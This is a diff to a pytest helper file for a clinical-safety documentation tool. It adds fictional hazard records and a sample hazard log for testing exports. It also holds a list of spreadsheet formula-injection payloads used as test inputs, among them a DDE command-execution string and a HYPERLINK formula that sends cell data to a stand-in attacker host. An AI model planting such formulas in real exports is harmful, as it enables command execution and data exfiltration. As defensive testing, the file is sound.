@@ -18,6 +18,7 @@ from typing import Any
 
 import pytest
 from bs4 import BeautifulSoup
+from nhs_assurance.core.hazard_record import HazardRecord
 from sphinx.testing.util import SphinxTestApp
 from sphinx.util.console import strip_colors
 
@@ -246,3 +247,88 @@ def require_weasyprint() -> None:
         if in_ci():
             pytest.fail(message)
         pytest.skip(message)
+
+
+# Fictional hazards, for the tests of the hazard log's exports.
+
+
+def hazard(key: str, **changes: object) -> HazardRecord:
+    """A fictional hazard, rated Major / Low (3) initially and Major / Very low (2) after."""
+    fields: dict[str, object] = {
+        "key": key.upper(),
+        "id": key,
+        "title": f"Fictional hazard {key}",
+        "docname": "safety",
+        "anchor": key.lower(),
+        "lineno": 10,
+        "status": "open",
+        "owner": "Fictional Clinical Safety Officer",
+        "initial_severity": "Major",
+        "initial_likelihood": "Low",
+        "initial_rating": 3,
+        "residual_severity": "Major",
+        "residual_likelihood": "Very low",
+        "residual_rating": 2,
+        "standards": ("XYZ0001",),
+        "description": "",
+        "causes": "",
+        "effect": "",
+        "harm": "",
+        "existing_controls": "",
+        "additional_controls": "",
+        "evidence": "",
+    }
+    fields.update(changes)
+    return HazardRecord(**fields)  # type: ignore[arg-type]
+
+
+#: What an attacker writes in a title or a text: each would run as a formula in a spreadsheet.
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://attacker.invalid/?d="&A1,"Click")',
+]
+
+
+def page_uri(docname: str) -> str:
+    """A page's URL as an HTML build gives it, for the export functions."""
+    return f"{docname}.html"
+
+
+def sample_log() -> list[HazardRecord]:
+    """A small fictional log: rated and unrated, with and without a residual assessment."""
+    return [
+        hazard(
+            "HAZ-901",
+            title="A referral is sent to a fictional service that has closed",
+            description="Free text about the hazard.",
+            causes="• The directory still lists the service.\n• A cached result is shown.",
+            effect="The referral waits, unread.",
+            harm="Delayed treatment.",
+            existing_controls="The service page says it is closed.",
+            additional_controls="• Design: the search lists only open services.",
+            evidence="Fictional test report TR-901.",
+            status="closed",
+            standards=("XYZ0001", "XYZ0002"),
+        ),
+        hazard(
+            "HAZ-902",
+            docname="guides/other",
+            residual_severity="",
+            residual_likelihood="",
+            residual_rating=0,
+            owner="",
+        ),
+        hazard(
+            "HAZ-903",
+            title="",
+            initial_severity="",
+            initial_likelihood="",
+            initial_rating=0,
+            standards=(),
+        ),
+    ]
